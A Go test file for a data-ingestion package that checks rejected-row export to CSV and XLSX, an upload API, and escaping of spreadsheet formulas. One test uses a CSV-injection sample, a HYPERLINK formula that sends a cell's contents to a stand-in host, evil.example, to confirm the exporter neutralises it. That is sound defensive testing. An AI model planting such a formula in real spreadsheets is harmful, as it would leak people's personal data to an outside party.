package ingest

import (
	"bytes"
	"context"
	"encoding/csv"
	"os"
	"path/filepath"
	"strings"
	"testing"

	"github.com/xuri/excelize/v2"

	"fullemp/campaign"
	"fullemp/warehouse/whtest"
)

// TestQuarantineExportRoundTrip rejects two rows, writes them back out as CSV and as
// XLSX, fixes the cells a worker would fix, and ingests the fixed files.
func TestQuarantineExportRoundTrip(t *testing.T) {
	s := whtest.Open(t)
	dir := t.TempDir()
	loadRegions(t, s, dir)
	rows := fixture(campaign.Ledger)
	rows[0][5] = "在职"         // not a status
	rows[1][3] = "3301020010" // too short
	p := writeFile(t, dir, "台帐.csv", csvBytes(t, withHeader(campaign.Ledger, true, rows), gbk))
	if sum := mustFiles(t, newIngester(s, Options{}), p)[0]; sum.Rejected != 2 {
		t.Fatalf("%+v", sum)
	}
	rejected, err := Quarantined(context.Background(), s, "台帐.csv", campaign.Ledger)
	if err != nil || len(rejected) != 2 {
		t.Fatalf("quarantined: %v %+v", err, rejected)
	}
	if none, _ := Quarantined(context.Background(), s, "other.csv", ""); len(none) != 0 {
		t.Errorf("--file filter: %+v", none)
	}
	fix := func(rec []string) []string {
		for i, c := range rec {
			switch c {
			case "在职":
				rec[i] = "就业"
			case "3301020010":
				rec[i] = community2
			}
		}
		return rec
	}
	for _, ext := range []string{".csv", ".xlsx"} {
		out := filepath.Join(dir, "fix"+ext)
		written, err := Export(out, rejected)
		if err != nil || len(written) != 1 || written[0] != out {
			t.Fatalf("export %s: %v %v", ext, written, err)
		}
		var records [][]string
		if ext == ".csv" {
			data, _ := os.ReadFile(out)
			if !strings.HasPrefix(string(data), "\xef\xbb\xbf月份,身份证号") {
				t.Fatalf("exported CSV starts %q", data[:min(len(data), 40)])
			}
			for _, line := range strings.Split(strings.TrimSpace(strings.TrimPrefix(string(data), "\xef\xbb\xbf")), "\n") {
				f, err := splitFields(strings.TrimRight(line, "\r"), nil)
				if err != nil {
					t.Fatal(err)
				}
				records = append(records, append([]string(nil), f...))
			}
		} else {
			f, err := excelize.OpenFile(out)
			if err != nil {
				t.Fatal(err)
			}
			records, _ = f.GetRows("Sheet1")
			f.Close()
		}
		if len(records) != 3 || records[0][len(records[0])-1] != ReasonHeader || !strings.Contains(records[1][14], "status") {
			t.Fatalf("exported %s: %q", ext, records)
		}
		for i := range records[1:] {
			records[i+1] = fix(records[i+1])
		}
		fixed := writeFile(t, dir, "resend/fixed"+ext, map[string]func(testing.TB, [][]string) []byte{
			".csv":  func(t testing.TB, r [][]string) []byte { return csvBytes(t, r, utf8BOM) },
			".xlsx": xlsxBytes,
		}[ext](t, records))
		sum := mustFiles(t, newIngester(s, Options{}), fixed)[0]
		if sum.Loaded != 2 || sum.Rejected != 0 || len(sum.Unknown) != 1 || sum.Unknown[0] != ReasonHeader {
			t.Errorf("resend %s: %+v", ext, sum)
		}
		os.RemoveAll(filepath.Join(dir, "resend"))
	}
	if n := count(t, s, "ledger", ""); n != 2 {
		t.Errorf("ledger FINAL %d rows, want 2", n)
	}
}

// TestUploadAPI is what the upload page calls: bytes in, Summary with rejected rows out.
func TestUploadAPI(t *testing.T) {
	s := whtest.Open(t)
	in := newIngester(s, Options{KeepRejections: 1})
	regions := xlsxBytes(t, withHeader(campaign.Regions, true, fixture(campaign.Regions)))
	if _, err := in.Upload(context.Background(), "区域.xlsx", regions, campaign.Ledger); err == nil || !strings.Contains(err.Error(), "is a regions file, not ledger") {
		t.Fatalf("wrong expected kind: %v", err)
	}
	sum, err := in.Upload(context.Background(), "uploads/区域.xlsx", regions, campaign.Regions)
	if err != nil || sum.Loaded != 2 || sum.File != "区域.xlsx" || sum.Format != XLSX {
		t.Fatalf("regions upload: %v %+v", err, sum)
	}
	rows := fixture(campaign.SpotChecks)
	rows = append(rows, []string{"2008", "330102001009", "pass", ""}, []string{"2008", community1, "?", ""})
	sum, err = in.Upload(context.Background(), "spot.csv", csvBytes(t, withHeader(campaign.SpotChecks, false, rows), utf8Plain), "")
	if err != nil || sum.Loaded != 2 || sum.Rejected != 2 || len(sum.Rejections) != 1 {
		t.Fatalf("spot upload: %v %+v", err, sum)
	}
	if r := sum.Rejections[0]; r.Row != 3 || r.Column != "community_code" || r.File != "spot.csv" || r.Kind != campaign.SpotChecks {
		t.Errorf("rejection: %+v", r)
	}
	if _, err := in.Upload(context.Background(), "broken.xlsx", []byte("PK\x03\x04 not really a zip"), ""); err == nil || !strings.Contains(err.Error(), "broken.xlsx") {
		t.Errorf("corrupt upload: %v", err)
	}
}

// TestQuarantineExportFormulas: rejected rows whose cells a spreadsheet would run as
// formulas (a name =HYPERLINK(…) or -2+3, household IDs @x and +1) are written to the CSV
// to fix behind a single quote, while a plain negative number (the rejected status -3.5)
// stays as it is; fixed and sent back, the rows load with the cells the source had.
func TestQuarantineExportFormulas(t *testing.T) {
	s := whtest.Open(t)
	dir := t.TempDir()
	loadRegions(t, s, dir)
	link := `=HYPERLINK("http://evil.example/?d="&B2,"详情")`
	rows := fixture(campaign.Ledger)
	rows[0][2], rows[0][4], rows[0][5] = link, "@x", "-3.5"
	rows[1][2], rows[1][4], rows[1][5] = "-2+3", "+1", "在职"
	p := writeFile(t, dir, "台帐.csv", csvBytes(t, withHeader(campaign.Ledger, false, rows), utf8BOM))
	if sum := mustFiles(t, newIngester(s, Options{}), p)[0]; sum.Rejected != 2 {
		t.Fatalf("%+v", sum)
	}
	rejected, err := Quarantined(context.Background(), s, "台帐.csv", campaign.Ledger)
	if err != nil || len(rejected) != 2 {
		t.Fatalf("quarantined: %v %+v", err, rejected)
	}
	out := filepath.Join(dir, "fix.csv")
	if _, err := Export(out, rejected); err != nil {
		t.Fatal(err)
	}
	data, _ := os.ReadFile(out)
	records, err := csv.NewReader(bytes.NewReader(bytes.TrimPrefix(data, []byte("\xef\xbb\xbf")))).ReadAll()
	if err != nil || len(records) != 3 {
		t.Fatalf("fix.csv: %v %q", err, records)
	}
	for _, c := range []struct {
		row, col int
		want     string
	}{{1, 2, "'" + link}, {1, 4, "'@x"}, {1, 5, "-3.5"}, {2, 2, "'-2+3"}, {2, 4, "'+1"}} {
		if got := records[c.row][c.col]; got != c.want {
			t.Errorf("fix.csv row %d column %s: %q, want %q", c.row, records[0][c.col], got, c.want)
		}
	}
	records[1][5], records[2][5] = "employed", "employed"
	fixed := writeFile(t, dir, "resend/fixed.csv", csvBytes(t, records, utf8BOM))
	if sum := mustFiles(t, newIngester(s, Options{}), fixed)[0]; sum.Loaded != 2 || sum.Rejected != 0 {
		t.Fatalf("resend: %+v", sum)
	}
	for id, want := range map[string][2]string{man: {link, "@x"}, woman: {"-2+3", "+1"}} {
		var name, hh string
		if err := s.Conn.QueryRow(context.Background(), "SELECT name, household_id FROM ledger FINAL WHERE id_number = ?", id).Scan(&name, &hh); err != nil {
			t.Fatal(err)
		}
		if name != want[0] || hh != want[1] {
			t.Errorf("resent row of %s: name %q household %q, want %q %q", id, name, hh, want[0], want[1])
		}
	}
}
